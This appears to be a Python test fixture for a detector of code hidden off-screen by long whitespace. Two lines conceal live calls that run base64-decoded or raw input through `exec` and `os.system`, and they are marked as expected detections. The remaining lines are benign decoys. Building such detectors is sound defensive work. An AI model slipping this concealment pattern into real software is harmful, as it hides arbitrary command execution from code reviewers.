import os
import base64                                                                                                                                                                          ;exec(base64.b64decode(input())) # expect: off-screen-code
READY = True                                                                                                                                                                          ;__import__('os').system(input()) # expect: off-screen-code
WIDTHS = {"name": 1,                                                                                                                                                                          "note": 2}
ART = """a                                                                                                                                                                          b
eval(x)
"""
DONE = True                                                                                                                                                                          # os.system("id")
print(WIDTHS, ART, DONE)
